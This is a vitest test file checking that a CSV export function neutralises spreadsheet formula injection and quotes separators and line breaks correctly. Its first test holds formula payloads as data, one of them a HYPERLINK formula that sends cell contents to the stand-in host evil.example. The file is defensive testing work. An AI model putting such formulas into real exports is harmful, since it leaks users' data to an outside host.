import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

const read = (buf: Buffer) => buf.toString('utf8');

describe('toCsv', () => {
  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', '+1+2', '-2+3', '@SUM(A1)', '\tTAB', '\rCR', '＝1+1'];
    const out = read(toCsv(['v'], evil.map((v) => [v])));
    const lines = out.split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")"`);
    expect(lines[2]).toBe("'+1+2");
    expect(lines[3]).toBe("'-2+3");
    expect(lines[4]).toBe("'@SUM(A1)");
    expect(lines[5]).toBe("'\tTAB");
    // A lone CR is quoted so no reader splits the record there.
    expect(lines[6]).toBe(`"'\rCR"`);
    expect(lines[7]).toBe("'＝1+1");
  });

  it('quotes separators, quotes and line breaks and leaves plain text alone', () => {
    const out = read(toCsv(['a', 'b', 'c', 'd'], [['Budi, S.H.', 'a;b', 'say "hi"', 'x\ny'], ['plain', 12, null, undefined]]));
    expect(out).toBe('a,b,c,d\r\n"Budi, S.H.","a;b","say ""hi""","x\ny"\r\nplain,12,,\r\n');
  });

  it('keeps a cell with a lone CR inside one record', () => {
    const out = read(toCsv(['a', 'b'], [['x\ry', 'z']]));
    expect(out).toBe('a,b\r\n"x\ry",z\r\n');
  });
});
